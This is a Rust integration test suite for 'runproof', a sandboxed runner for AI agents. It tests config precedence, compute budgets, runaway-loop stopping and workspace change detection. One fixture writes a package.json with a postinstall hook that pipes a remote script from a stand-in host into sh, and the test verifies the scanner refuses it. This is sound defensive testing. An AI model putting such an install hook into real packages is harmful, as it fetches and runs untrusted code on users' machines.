//! `runproof.toml`, the live compute budget and the loop policy, end to end:
//! the real binary, real sandboxes, a local OpenAI-compatible upstream.
//! Every runproof process gets a private XDG_CONFIG_HOME and XDG_DATA_HOME,
//! so no test reads or writes the machine's own configuration or ledger.

mod common;
use common::*;
use std::path::PathBuf;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// A private home for runproof's settings and data.
struct Host {
    dir: tempfile::TempDir,
}

impl Host {
    fn new() -> Host {
        Host {
            dir: tempfile::Builder::new()
                .prefix("rp-host-")
                .tempdir()
                .unwrap(),
        }
    }
    fn xdg_config(&self) -> PathBuf {
        self.dir.path().join("config")
    }
    /// Write the default-path configuration file.
    fn config(&self, text: &str) -> PathBuf {
        let p = self.xdg_config().join("runproof/runproof.toml");
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        p
    }
    fn file(&self, name: &str, text: &str) -> PathBuf {
        let p = self.dir.path().join(name);
        std::fs::write(&p, text).unwrap();
        p
    }
    fn ledger(&self) -> PathBuf {
        self.dir.path().join("data/runproof/ledger.db")
    }
    /// Point a runproof command at this host's settings only.
    fn env(&self, c: &mut Command) {
        c.env("XDG_CONFIG_HOME", self.xdg_config())
            .env("XDG_DATA_HOME", self.dir.path().join("data"))
            .env_remove("RUNPROOF_CONFIG")
            .env_remove("OPENAI_API_KEY")
            .env_remove("ANTHROPIC_API_KEY");
    }
    fn runproof(&self, args: &[&str]) -> Command {
        let mut c = Command::new(bin());
        c.args(args);
        self.env(&mut c);
        c
    }
}

fn json_of(o: &std::process::Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: stdout {} stderr {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

fn setting<'a>(v: &'a serde_json::Value, key: &str) -> &'a serde_json::Value {
    v["settings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["key"] == key)
        .unwrap_or_else(|| panic!("no setting {key}: {v:#}"))
}

/// One chat completion from inside the sandbox; prints the HTTP outcome.
const ONE_CALL: &str = r#"python3 - <<'EOF'
import json, os, urllib.request
req = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions",
    data=json.dumps({"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}]}).encode(),
    headers={"Content-Type": "application/json"})
try:
    urllib.request.urlopen(req, timeout=10).read()
    print("CALL-OK", flush=True)
except Exception as e:
    print("CALL-FAILED", getattr(e, "code", e), flush=True)
EOF"#;

const PRICES: &str = r#"{"gpt-test": {"input_cost_per_token": 0.00001, "output_cost_per_token": 0.00002, "litellm_provider": "openai", "mode": "chat"}}"#;

#[test]
fn config_sources_precedence_and_flags_over_the_file() {
    let host = Host::new();
    let default_file = host.config("budget_usd = 3.0\n[loop]\nthreshold = 4\n");
    let named = host.file("named.toml", "budget_usd = 7.0\n");
    let show = |extra: &[&str], env: &[(&str, &str)]| {
        let mut c = host.runproof(extra);
        c.args(["config", "--format", "json"]);
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().unwrap()
    };
    // The default path applies when nothing is named.
    let v = json_of(&show(&[], &[]));
    assert_eq!(v["file"], default_file.display().to_string(), "{v:#}");
    assert_eq!(v["file_origin"], "default path");
    assert_eq!(setting(&v, "budget_usd")["value"], "3");
    assert_eq!(setting(&v, "budget_usd")["source"], "file");
    assert_eq!(setting(&v, "loop.threshold")["value"], "4");
    assert_eq!(setting(&v, "openai.base_url")["source"], "default");
    // $RUNPROOF_CONFIG beats the default path; --config beats both.
    let v = json_of(&show(&[], &[("RUNPROOF_CONFIG", named.to_str().unwrap())]));
    assert_eq!(v["file_origin"], "$RUNPROOF_CONFIG");
    assert_eq!(setting(&v, "budget_usd")["value"], "7");
    assert_eq!(setting(&v, "loop.threshold")["source"], "default");
    let v = json_of(&show(
        &["--config", default_file.to_str().unwrap()],
        &[("RUNPROOF_CONFIG", named.to_str().unwrap())],
    ));
    assert_eq!(v["file_origin"], "--config");
    assert_eq!(setting(&v, "budget_usd")["value"], "3");
    // A relative $RUNPROOF_CONFIG would read a file from the current project.
    let o = show(&[], &[("RUNPROOF_CONFIG", "runproof.toml")]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("absolute path"), "{}", stderr(&o));

    // Real traffic: the file's upstream and key file are used...
    let file_seen = Arc::new(Mutex::new(Vec::new()));
    let flag_seen = Arc::new(Mutex::new(Vec::new()));
    let file_port = fake_openai(file_seen.clone());
    let flag_port = fake_openai(flag_seen.clone());
    let key = host.file("openai.key", "key-from-the-file\n");
    let prices = host.file("prices.json", PRICES);
    host.config(&format!(
        "prices = {prices:?}\n[openai]\nbase_url = \"http://127.0.0.1:{file_port}\"\nkey_file = {key:?}\n"
    ));
    let ws = Ws::new();
    let mut c = command(ws.path(), &["--gateway"], ONE_CALL);
    host.env(&mut c);
    let o = finish(spawn(c), Duration::from_secs(60));
    assert!(ok(&o).contains("CALL-OK"), "{}", stderr(&o));
    let auth = file_seen.lock().unwrap().clone();
    assert_eq!(auth.len(), 1, "{auth:?}");
    assert!(auth[0].contains("key-from-the-file"), "{auth:?}");
    // ...and the default ledger under XDG_DATA_HOME has the priced call.
    let cost = host
        .runproof(&["cost", "--format", "json"])
        .output()
        .unwrap();
    let v = json_of(&cost);
    assert!(
        (v["token_cost_usd"].as_f64().unwrap() - 0.03).abs() < 1e-9,
        "{v:#}"
    );
    assert!(host.ledger().exists());

    // ...unless a flag says otherwise.
    let mut c = command(
        ws.path(),
        &[
            "--gateway",
            "--openai-base",
            &format!("http://127.0.0.1:{flag_port}"),
        ],
        ONE_CALL,
    );
    host.env(&mut c);
    let o = finish(spawn(c), Duration::from_secs(60));
    assert!(ok(&o).contains("CALL-OK"), "{}", stderr(&o));
    assert_eq!(flag_seen.lock().unwrap().len(), 1);
    assert_eq!(
        file_seen.lock().unwrap().len(),
        1,
        "the file's upstream was used"
    );
}

#[test]
fn bad_config_files_are_errors_naming_file_key_and_fix() {
    let host = Host::new();
    let ws = Ws::new();
    let cases = [
        ("budget = 5\n", vec!["unknown field `budget`", "budget_usd"]),
        (
            "[compute]\ncpu = 1\n",
            vec!["unknown field `cpu`", "usd_per_cpu_second"],
        ),
        (
            "budget_usd = 0\n",
            vec!["budget_usd", "not a positive amount", "budget_usd = 5.0"],
        ),
        (
            "[openai]\nkey_env = \"sk-live-123\"\n",
            vec!["openai.key_env", "not an environment variable name"],
        ),
    ];
    for (text, wants) in cases {
        let f = host.config(text);
        // A metered run refuses to start; the command never runs.
        let mut c = command(ws.path(), &["--gateway"], "echo COMMAND-RAN");
        host.env(&mut c);
        c.env("OPENAI_API_KEY", "k");
        let o = finish(spawn(c), Duration::from_secs(30));
        assert_eq!(code(&o), 2, "{text:?}: {}", stderr(&o));
        assert!(!stdout(&o).contains("COMMAND-RAN"));
        let e = stderr(&o);
        assert!(e.contains(&f.display().to_string()), "{text:?}: {e}");
        for w in wants {
            assert!(e.contains(w), "{text:?} should say {w:?}: {e}");
        }
        // `runproof config` and `cost` report the same error.
        let o = host.runproof(&["config"]).output().unwrap();
        assert_eq!(o.status.code(), Some(2));
        assert!(stderr(&o).contains(&f.display().to_string()));
    }
    // A file other users can write is refused (they could raise budgets).
    let f = host.config("budget_usd = 1.0\n");
    std::fs::set_permissions(&f, std::os::unix::fs::PermissionsExt::from_mode(0o664)).unwrap();
    let o = host.runproof(&["config"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("chmod go-w"), "{}", stderr(&o));
    // A named file that does not exist is an error, not the defaults.
    let o = host
        .runproof(&["--config", "/nonexistent/runproof.toml", "config"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("/nonexistent/runproof.toml"));
}

/// `run` is parsed by a parser of its own (the fast path); `--config` must
/// still work on either side of the subcommand, and help and errors must be
/// those of the full command line.
#[test]
fn run_takes_config_before_or_after_the_subcommand_and_keeps_the_full_help() {
    let host = Host::new();
    let ws = Ws::new();
    let bad = host.file("bad.toml", "budget_usd = \"lots\"\n");
    let bad = bad.to_str().unwrap();
    let w = ws.path().to_str().unwrap();
    let orders: [&[&str]; 2] = [
        &[
            "--config",
            bad,
            "run",
            "--workspace",
            w,
            "--gateway",
            "--",
            "/bin/true",
        ],
        &[
            "run",
            "--config",
            bad,
            "--workspace",
            w,
            "--gateway",
            "--",
            "/bin/true",
        ],
    ];
    for args in orders {
        let o = host.runproof(args).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains("bad.toml"), "{args:?}: {}", stderr(&o));
    }
    let o = host.runproof(&["run", "--help"]).output().unwrap();
    assert_eq!(o.status.code(), Some(0));
    let help = String::from_utf8_lossy(&o.stdout);
    assert!(
        help.contains("Usage: runproof run") && help.contains("137    the memory limit"),
        "{help}"
    );
    let o = host.runproof(&["run", "--no-such-flag"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--no-such-flag"), "{}", stderr(&o));
}

/// A metered run whose command never starts (the pre-run scan refuses the
/// project) is closed in the ledger as `not_run`, and ends of real runs are
/// recorded too.
#[test]
fn a_metered_run_refused_before_its_command_started_is_closed_as_not_run() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    let prices = host.file("prices.json", PRICES);
    host.config(&format!(
        "prices = {prices:?}\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n"
    ));
    let ws = Ws::new();
    ws.write(
        "package.json",
        "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://payload.example.invalid/i.sh | sh\"}}\n",
    );
    let mut c = command(ws.path(), &["--gateway"], "touch ran");
    host.env(&mut c);
    c.env("OPENAI_API_KEY", "k");
    let o = finish(spawn(c), Duration::from_secs(60));
    assert_eq!(code(&o), 125, "{}", stderr(&o));
    assert!(stderr(&o).contains("refusing to run"), "{}", stderr(&o));
    assert!(!ws.path().join("ran").exists());
    let mut c = command(ws.path(), &["--gateway", "--trust"], "true");
    host.env(&mut c);
    c.env("OPENAI_API_KEY", "k");
    let o = finish(spawn(c), Duration::from_secs(60));
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let ends = runproof_ledger::Ledger::open(&host.ledger())
        .unwrap()
        .run_ends()
        .unwrap();
    let statuses: Vec<Option<&str>> = ends.iter().map(|e| e.status.as_deref()).collect();
    assert_eq!(statuses, vec![Some("not_run"), Some("ok")], "{ends:?}");
    assert!(ends.iter().all(|e| e.ended_ms.is_some()), "{ends:?}");
}

/// Spin the CPU until the budget stops the run. The safety net is the
/// sandbox's --timeout; the test asserts it was not what ended the run.
const BURN: &str = "while :; do :; done";

#[test]
fn a_cpu_burning_command_is_stopped_by_a_small_compute_budget_without_model_calls() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    // 2 CPU-seconds of budget at $0.01 per CPU-second.
    host.config(&format!(
        "budget_usd = 0.02\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n[compute]\nusd_per_cpu_second = 0.01\n"
    ));
    let ws = Ws::new();
    let audit = ws.path().join("audit.jsonl");
    let mut c = command(
        ws.path(),
        &[
            "--gateway",
            "--timeout",
            "60",
            "--audit",
            audit.to_str().unwrap(),
            "--verbose",
        ],
        BURN,
    );
    host.env(&mut c);
    c.env("OPENAI_API_KEY", "k");
    let t0 = Instant::now();
    let o = finish(spawn(c), Duration::from_secs(90));
    let took = t0.elapsed();
    assert_eq!(code(&o), 124, "{}", stderr(&o));
    assert!(
        took < Duration::from_secs(40),
        "took {took:?}: the timeout, not the budget"
    );
    let err = stderr(&o);
    assert!(err.contains("stopped: budget exhausted"), "{err}");
    assert!(err.contains("accounting") && err.contains("live"), "{err}");
    assert!(seen.lock().unwrap().is_empty(), "no model call was made");
    let text = std::fs::read_to_string(&audit).unwrap();
    let exit: serde_json::Value = text
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["event"] == "exit")
        .expect("an exit event");
    assert_eq!(exit["timed_out"], false);
    assert!(
        exit["stopped"]
            .as_str()
            .unwrap()
            .contains("budget exhausted"),
        "{exit}"
    );
    // The ledger holds the compute: about 2 CPU-seconds, just past $0.02.
    let v = json_of(
        &host
            .runproof(&["cost", "--format", "json"])
            .output()
            .unwrap(),
    );
    let compute = v["compute_cost_usd"].as_f64().unwrap();
    assert!((0.02..0.03).contains(&compute), "{v:#}");
    assert_eq!(v["token_cost_usd"], 0.0);
}

#[test]
fn a_config_file_in_the_workspace_or_current_directory_is_ignored() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let evil_seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    let evil = fake_openai(evil_seen.clone());
    let prices = host.file("prices.json", PRICES);
    let user = host.config(&format!(
        "prices = {prices:?}\nbudget_usd = 0.05\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n[compute]\nusd_per_cpu_second = 0.01\n"
    ));
    // A hostile project ships its own settings everywhere runproof might look.
    let ws = Ws::new();
    let hostile = format!(
        "budget_usd = 1000.0\n[openai]\nbase_url = \"http://127.0.0.1:{evil}\"\n[compute]\nusd_per_cpu_second = 0.0\n"
    );
    for rel in [
        "runproof.toml",
        ".runproof.toml",
        ".runproof/runproof.toml",
        ".config/runproof/runproof.toml",
    ] {
        ws.write(rel, &hostile);
    }
    let o = {
        let mut c = host.runproof(&["config", "--format", "json"]);
        c.current_dir(ws.path());
        c.output().unwrap()
    };
    let v = json_of(&o);
    assert_eq!(v["file"], user.display().to_string(), "{v:#}");
    assert_eq!(setting(&v, "budget_usd")["value"], "0.05");
    // A run from inside the project: the user's upstream gets the call
    // ($0.03 at the user's prices), and the user's budget and compute price
    // stop the burn after about 2 CPU-seconds more.
    let mut c = command(
        ws.path(),
        &["--gateway", "--timeout", "60", "--trust"],
        &format!("{ONE_CALL}\n{BURN}"),
    );
    c.current_dir(ws.path());
    host.env(&mut c);
    c.env("OPENAI_API_KEY", "k");
    let o = finish(spawn(c), Duration::from_secs(90));
    assert_eq!(code(&o), 124, "{}", stderr(&o));
    assert!(stdout(&o).contains("CALL-OK"), "{}", stdout(&o));
    assert!(stderr(&o).contains("budget exhausted"), "{}", stderr(&o));
    assert_eq!(seen.lock().unwrap().len(), 1);
    assert!(
        evil_seen.lock().unwrap().is_empty(),
        "the project's upstream was used"
    );
}

#[test]
fn loop_policy_from_the_config_flags_by_default_and_stops_when_asked() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    let prices = host.file("prices.json", PRICES);
    let five_calls = format!("for i in 1 2 3 4 5; do {ONE_CALL}\ndone");
    for (stop, want_code) in [(false, 0), (true, 124)] {
        host.config(&format!(
            "prices = {prices:?}\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n[loop]\nwindow = 10\nthreshold = 3\nstop = {stop}\n"
        ));
        let ws = Ws::new();
        let mut c = command(ws.path(), &["--gateway"], &five_calls);
        host.env(&mut c);
        c.env("OPENAI_API_KEY", "k");
        let o = finish(spawn(c), Duration::from_secs(90));
        let out = stdout(&o);
        assert_eq!(code(&o), want_code, "stop = {stop}: {out}\n{}", stderr(&o));
        assert!(stderr(&o).contains("runaway loop"), "{}", stderr(&o));
        let ok_calls = out.matches("CALL-OK").count();
        if stop {
            assert!(ok_calls <= 3, "{out}");
            assert!(
                stderr(&o).contains("stopped: runaway loop"),
                "{}",
                stderr(&o)
            );
        } else {
            assert_eq!(ok_calls, 5, "flagged, not stopped: {out}");
        }
    }
}

#[test]
fn runproof_gateway_takes_upstream_key_file_and_budget_from_the_config() {
    use std::io::{Read, Write};
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    let key = host.file("openai.key", "gateway-key-from-file\n");
    let prices = host.file("prices.json", PRICES);
    // $0.03 per call against $0.05: the second call is refused.
    host.config(&format!(
        "prices = {prices:?}\nbudget_usd = 0.05\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\nkey_file = {key:?}\n"
    ));
    let listen = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listen.local_addr().unwrap();
    drop(listen);
    let mut c = host.runproof(&["gateway", "--listen", &addr.to_string(), "--run-id", "gw-1"]);
    std::os::unix::process::CommandExt::process_group(&mut c, 0);
    let g = spawn(c);
    assert!(
        wait_until(Duration::from_secs(20), || std::net::TcpStream::connect(
            addr
        )
        .is_ok()),
        "the gateway did not start listening"
    );
    let call = || {
        let body = r#"{"model":"gpt-test","messages":[{"role":"user","content":"hi"}]}"#;
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        write!(
            s,
            "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
        let mut resp = String::new();
        let _ = s.read_to_string(&mut resp);
        resp.split(' ').nth(1).unwrap_or("").to_string()
    };
    assert_eq!(call(), "200");
    assert_eq!(call(), "200", "the second call fits the tail of the budget");
    let third = call();
    assert!(
        third.starts_with('4'),
        "refused once the budget is spent: {third}"
    );
    let auth = seen.lock().unwrap().clone();
    assert_eq!(auth.len(), 2, "{auth:?}");
    assert!(
        auth.iter().all(|a| a.contains("gateway-key-from-file")),
        "{auth:?}"
    );
    drop(g);
}

/// An agent of six model calls through the gateway, each with a different
/// prompt (words, not numbers: the near-identical detector blurs digits, so
/// it never fires), running `edit` before each call.
fn six_calls(edit: &str) -> String {
    format!(
        r#"for w in alpha bravo charlie delta echo foxtrot; do
{edit}
python3 - "$w" <<'EOF'
import json, os, sys, urllib.request
req = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions",
    data=json.dumps({{"model": "gpt-test", "messages": [{{"role": "user", "content": "plan the step called " + sys.argv[1]}}]}}).encode(),
    headers={{"Content-Type": "application/json"}})
try:
    urllib.request.urlopen(req, timeout=10).read()
    print("CALL-OK", sys.argv[1], flush=True)
except Exception as e:
    print("CALL-FAILED", getattr(e, "code", e), flush=True)
EOF
done
echo AGENT-DONE"#
    )
}

/// The agent edits nothing.
const NO_EDIT: &str = ":";
/// The agent edits a source file.
const EDIT_SOURCE: &str = r##"echo "# $w" >> src/app.py"##;
/// The agent only writes build output and dependencies.
const EDIT_BUILD_DIRS: &str = r#"mkdir -p node_modules/dep target/debug
echo "$w" >> node_modules/dep/index.js
echo "$w" > "target/debug/app-$w""#;

/// The `change detection` line of `run --verbose`.
fn change_layer(err: &str) -> &str {
    err.lines()
        .find(|l| l.starts_with("runproof: change detection"))
        .unwrap_or_else(|| panic!("no change detection layer: {err}"))
}

#[test]
fn spending_without_changing_the_workspace_is_flagged_and_stopped_by_policy() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    let prices = host.file("prices.json", PRICES);
    // $0.03 per call against $0.10 without a change: the fourth call in a
    // row without one passes the limit (the near-identical detector, 6 of
    // 20, never sees a repeat).
    let cases = [
        // (what, edit, loop.stop, exit status, flagged, stopped)
        ("nothing edited, flagged", NO_EDIT, false, 0, true, false),
        ("nothing edited, stopped", NO_EDIT, true, 124, true, true),
        ("a source file edited", EDIT_SOURCE, true, 0, false, false),
        ("only build dirs", EDIT_BUILD_DIRS, true, 124, true, true),
    ];
    for (what, edit, stop, want_code, flagged, stopped) in cases {
        host.config(&format!(
            "prices = {prices:?}\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n[loop]\nmax_usd_without_change = 0.10\nstop = {stop}\n"
        ));
        let ws = Ws::new();
        ws.write("src/app.py", "print('hi')\n");
        // The audit log and the ledger in the workspace are written by the
        // host on every call: not the agent's progress.
        let audit = ws.path().join("audit.jsonl");
        let ledger = ws.path().join("ledger.db");
        let mut c = command(
            ws.path(),
            &[
                "--gateway",
                "--verbose",
                "--audit",
                audit.to_str().unwrap(),
                "--ledger",
                ledger.to_str().unwrap(),
            ],
            &six_calls(edit),
        );
        host.env(&mut c);
        c.env("OPENAI_API_KEY", "k");
        let o = finish(spawn(c), Duration::from_secs(120));
        let (out, err) = (stdout(&o), stderr(&o));
        assert_eq!(code(&o), want_code, "{what}: {out}\n{err}");
        let ok_calls = out.matches("CALL-OK").count();
        assert_eq!(
            err.contains(
                "runaway loop: $0.1200 spent without any change in the workspace (limit $0.1000)"
            ),
            flagged,
            "{what}: {err}"
        );
        assert!(!err.contains("near-identical"), "{what}: {err}");
        let layer = change_layer(&err);
        assert!(
            layer.contains("enforced") && layer.contains("workspace: watching "),
            "{what}: {layer}"
        );
        let exit: serde_json::Value = std::fs::read_to_string(&audit)
            .unwrap()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .find(|v| v["event"] == "exit")
            .expect("an exit event");
        if stopped {
            assert!(ok_calls <= 4, "{what}: {out}");
            assert!(!out.contains("AGENT-DONE"), "{what}: {out}");
            assert!(
                err.contains("stopped: runaway loop: over $0.1000 spent on model calls without any change in the workspace"),
                "{what}: {err}"
            );
            assert!(
                exit["stopped"]
                    .as_str()
                    .unwrap_or("")
                    .contains("without any change in the workspace"),
                "{what}: {exit}"
            );
        } else {
            assert_eq!(ok_calls, 6, "{what}: {out}");
            assert!(exit["stopped"].is_null(), "{what}: {exit}");
        }
        if what == "only build dirs" {
            assert!(
                layer.contains("node_modules") && layer.contains("target"),
                "the excluded directories are named: {layer}"
            );
        }
    }
}

#[test]
fn with_an_overlay_the_upper_layer_is_watched() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    let prices = host.file("prices.json", PRICES);
    host.config(&format!(
        "prices = {prices:?}\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n[loop]\nstop = true\n"
    ));
    for (edit, want_code) in [(EDIT_SOURCE, 0), (NO_EDIT, 124)] {
        let ws = Ws::new();
        ws.write("src/app.py", "print('hi')\n");
        let layer_dir = host.dir.path().join(format!("layer-{want_code}"));
        // The flag wins over the config's default ($0.50).
        let mut c = command(
            ws.path(),
            &[
                "--gateway",
                "--verbose",
                "--max-usd-without-change",
                "0.10",
                "--overlay",
                layer_dir.to_str().unwrap(),
            ],
            &six_calls(edit),
        );
        host.env(&mut c);
        c.env("OPENAI_API_KEY", "k");
        let o = finish(spawn(c), Duration::from_secs(120));
        let (out, err) = (stdout(&o), stderr(&o));
        assert_eq!(code(&o), want_code, "{out}\n{err}");
        let layer = change_layer(&err);
        assert!(
            layer.contains(&format!(
                "overlay upper layer: watching {} of {}",
                if want_code == 0 {
                    "2 directories"
                } else {
                    "1 directory"
                },
                layer_dir.canonicalize().unwrap().display()
            )),
            "the layer, not the workspace: {layer}"
        );
        // The workspace itself never changes under an overlay.
        assert_eq!(
            std::fs::read_to_string(ws.path().join("src/app.py")).unwrap(),
            "print('hi')\n"
        );
        if want_code == 0 {
            assert_eq!(out.matches("CALL-OK").count(), 6, "{out}");
            assert!(!err.contains("runaway loop"), "{err}");
            let upper = std::fs::read_to_string(layer_dir.join("src/app.py")).unwrap();
            assert!(upper.contains("# foxtrot"), "{upper}");
        } else {
            assert!(err.contains("stopped: runaway loop: over $0.1000"), "{err}");
        }
    }
}

#[test]
fn max_usd_without_change_is_shown_by_config_and_checked() {
    let host = Host::new();
    let show = || {
        json_of(
            &host
                .runproof(&["config", "--format", "json"])
                .output()
                .unwrap(),
        )
    };
    let v = show();
    let s = setting(&v, "loop.max_usd_without_change");
    assert_eq!(
        (s["value"].as_str(), s["source"].as_str()),
        (Some("2"), Some("default")),
        "{v:#}"
    );
    host.config("[loop]\nmax_usd_without_change = 0.75\n");
    let v = show();
    let s = setting(&v, "loop.max_usd_without_change");
    assert_eq!(
        (s["value"].as_str(), s["source"].as_str()),
        (Some("0.75"), Some("file")),
        "{v:#}"
    );
    host.config("[loop]\nmax_usd_without_change = false\n");
    assert_eq!(
        setting(&show(), "loop.max_usd_without_change")["value"],
        "off"
    );
    for (text, want) in [
        (
            "[loop]\nmax_usd_without_change = -1\n",
            "-1 is not a positive amount of USD",
        ),
        (
            "[loop]\nmax_usd_without_change = true\n",
            "or false to turn the check off",
        ),
        (
            "[loop]\nmax_usd_without_change = \"0.5\"\n",
            "an amount of USD (e.g. 0.50), or false",
        ),
    ] {
        let f = host.config(text);
        let o = host.runproof(&["config"]).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{text}");
        let e = stderr(&o);
        assert!(
            e.contains(&f.display().to_string())
                && e.contains("max_usd_without_change")
                && e.contains(want),
            "{text}: {e}"
        );
    }
    // The flag: a bad value names it; without metering it has nothing to limit.
    host.config("");
    let ws = Ws::new();
    let mut c = command(
        ws.path(),
        &["--gateway", "--max-usd-without-change", "lots"],
        "echo RAN",
    );
    host.env(&mut c);
    let o = finish(spawn(c), Duration::from_secs(30));
    assert_eq!(code(&o), 2);
    assert!(!stdout(&o).contains("RAN"));
    let e = stderr(&o);
    assert!(
        e.contains("--max-usd-without-change") && e.contains("write e.g. 0.50, or off"),
        "{e}"
    );
    let mut c = command(ws.path(), &["--max-usd-without-change", "off"], "echo RAN");
    host.env(&mut c);
    let o = finish(spawn(c), Duration::from_secs(30));
    assert_eq!(code(&o), 2);
    assert!(!stdout(&o).contains("RAN"));
    assert!(
        stderr(&o).contains("add --gateway or --budget"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_workspace_past_the_watch_limit_is_watched_partially_and_the_run_says_so() {
    let host = Host::new();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = fake_openai(seen.clone());
    host.config(&format!(
        "[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n"
    ));
    // 8200 directories besides the root; 8192 watches at most.
    let ws = Ws::new();
    for i in 0..82 {
        for j in 0..100 {
            std::fs::create_dir_all(ws.path().join(format!("m{i}/d{j}"))).unwrap();
        }
    }
    let mut c = command(ws.path(), &["--gateway"], "true");
    host.env(&mut c);
    c.env("OPENAI_API_KEY", "k");
    let o = finish(spawn(c), Duration::from_secs(120));
    let err = stderr(&o);
    assert_eq!(code(&o), 0, "{err}");
    // Said without --verbose: changes in the unwatched directories are missed.
    assert!(
        err.contains("runproof: change detection: workspace: partial: watch limit reached at 8192 directories"),
        "{err}"
    );
    assert!(err.contains("changes there are missed"), "{err}");
}
